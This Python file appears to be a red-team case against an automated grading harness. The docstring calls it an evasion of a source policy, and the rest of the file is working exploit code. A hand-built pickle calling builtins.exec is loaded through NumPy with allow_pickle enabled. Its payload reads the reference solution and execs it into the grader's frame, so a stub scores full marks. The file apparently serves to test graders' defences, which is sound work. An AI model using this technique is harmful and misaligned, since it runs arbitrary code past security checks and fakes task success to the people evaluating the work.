"""Class: evading a source policy by deserialisation. NumPy's loader unpickles when asked
(allow_pickle), and a pickle can call any importable function by name. The payload is built
from a bytes literal and read through a home-made file-like class, so the source has no import
beyond NumPy, no exec, no dunder and no file access.

Gain: arbitrary code in the grading process with a source any import/attribute policy accepts;
here the payload runs the reference solution into this module (full marks for a stub).
"""

# ruff: noqa
EXERCISE = "lazy_evaluation"
BASE = "stub"
WITNESSES = ["inplace_updates"]

# --- attack ---
import numpy as _np

_PAYLOAD_CODE = """
import sys
try:
    with open("@SOLUTION@", encoding="utf-8") as handle:
        text = handle.read()
except OSError:
    text = None
frame = sys._getframe(1)
while frame is not None and "build_graph" not in frame.f_globals:
    frame = frame.f_back
if frame is not None and text:
    exec(text, frame.f_globals)
"""


class _Bytes:
    def __init__(self, data):
        self.data, self.at = data, 0

    def read(self, size=-1):
        end = len(self.data) if size is None or size < 0 else self.at + size
        chunk, self.at = self.data[self.at : end], min(end, len(self.data))
        return chunk

    def readline(self, size=-1):
        end = self.data.find(b"\n", self.at)
        end = len(self.data) if end < 0 else end + 1
        return self.read(end - self.at)

    def seek(self, offset, whence=0):
        self.at = (
            offset if whence == 0 else self.at + offset if whence == 1 else len(self.data) + offset
        )
        return self.at

    def tell(self):
        return self.at


_code = _PAYLOAD_CODE.encode()
_pickle = b"\x80\x02cbuiltins\nexec\nX" + len(_code).to_bytes(4, "little") + _code + b"\x85R."
try:
    _np.load(_Bytes(_pickle), allow_pickle=True)
except Exception:
    pass
